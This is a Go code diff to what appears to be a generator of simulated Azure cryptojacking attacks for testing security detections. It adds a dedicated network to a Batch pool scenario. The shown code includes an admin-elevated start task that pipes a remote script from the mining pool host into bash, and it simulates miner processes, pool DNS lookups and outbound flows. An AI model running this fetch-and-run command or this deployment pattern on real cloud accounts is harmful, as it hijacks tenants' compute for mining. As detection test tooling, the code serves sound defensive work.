@@ -75,6 +75,10 @@ func (g *gen) mlFanout(at time.Time) Attack {
 		"deploymentConfiguration": map[string]any{"virtualMachineConfiguration": map[string]any{"imageReference": map[string]any{"publisher": "microsoft-dsvm", "offer": "ubuntu-hpc", "sku": "2204", "version": "latest"}, "nodeAgentSkuId": "batch.node.ubuntu 22.04"}},
 		"scaleSettings":           map[string]any{"fixedScale": map[string]any{"targetDedicatedNodes": 0, "targetLowPriorityNodes": 20, "resizeTimeout": "PT15M"}},
 		"startTask":               map[string]any{"commandLine": "/bin/bash -c 'curl -fsSL https://" + pool + "/x.sh | bash'", "userIdentity": map[string]any{"autoUser": map[string]any{"elevationLevel": "Admin"}}}}}
+	// The nodes join a network made for them, which the tenant's flow-log
+	// policy logs like any other.
+	net := g.attackNetwork(now.Add(time.Minute), sp, "batch-"+regions[1], "render", regions[1])
+	body["properties"].(map[string]any)["networkConfiguration"] = map[string]any{"subnetId": net.vnet + "/subnets/renderSubnet"}
 	now = g.arm(now.Add(time.Minute), sp, "MICROSOFT.BATCH/BATCHACCOUNTS/POOLS/WRITE", poolID, armOpts{Body: body, Loc: regions[1], Accept: true})
 	a.Resources = append(a.Resources, strings.ToLower(acct))
 
@@ -95,9 +99,8 @@ func (g *gen) mlFanout(at time.Time) Attack {
 	g.dns(up, src, pool+".")
 	g.exec(up.Add(2*time.Second), fmt.Sprintf("tvmps_%x_p", g.r.Uint64()), 2200+g.r.IntN(300), 2100, 0, minerArgs(ep))
 	a.extend(up.Add(2 * time.Second))
-	// The pool's nodes sit in a network of the tenant (they resolve through
-	// its firewall), whose flow log sees the miner dial out.
-	a.extend(g.minerFlows(up, regions[1], src, ep))
+	// The network's flow log sees the miner dial out.
+	a.extend(g.minerFlows(up, net, src, ep))
 	a.MustFire = []string{
 		"azure.compute.gpu_created", "azure.compute.mass_deployment", "azure.compute.multi_region_fanout",
 		"azure.compute.unusual_service", "azure.compute.new_region", "azure.dns.mining_pool_lookup", "azure.host.miner_process",
